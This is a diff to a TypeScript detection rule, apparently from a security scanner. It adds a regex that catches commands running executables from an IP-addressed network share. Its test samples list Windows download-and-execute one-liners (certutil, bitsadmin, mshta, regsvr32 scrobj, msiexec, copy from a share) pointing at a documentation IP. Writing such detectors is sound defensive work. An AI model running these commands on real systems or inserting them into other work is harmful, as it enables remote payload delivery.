@@ -39,6 +39,11 @@ export const rule: Rule = {
       window: 300,
     },
     { re: /(?<![\w-])(?:cscript|wscript)(?:\.exe)?\s[^\n]*(?:https?:\/\/|\\\\[\w.]+\\)/i, window: 300 },
+    // A program straight from somebody's share
+    {
+      re: /(?<![\w-])(?:copy|xcopy|robocopy|start|rundll32(?:\.exe)?|cmd(?:\.exe)?\s\/c|powershell(?:\.exe)?|net\suse)\s[^\n]*\\\\\d{1,3}(?:\.\d{1,3}){3}\\[^\s"']*\.(?:exe|dll|ps1|bat|hta|sct|js|vbs)/i,
+      window: 240,
+    },
     { re: /(?<![\w-])pubprn\.vbs\s[^\n]*script:/i, window: 200 },
     { re: /(?<![\w-])(?:finger|ftp)(?:\.exe)?\s+(?:-s:\S+|[\w@.-]+\s*\|\s*(?:cmd|more|powershell))/i },
     {
@@ -51,6 +56,7 @@ export const rule: Rule = {
       'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
       'bitsadmin /transfer job /download /priority high http://203.0.113.7/a.exe C:\\a.exe',
       'mshta http://203.0.113.7/a.hta',
+      'copy \\\\203.0.113.7\\share\\a.exe C:\\a.exe',
       'mshta vbscript:Execute("x")',
       'regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll',
       'msiexec /q /i http://203.0.113.7/a.msi',
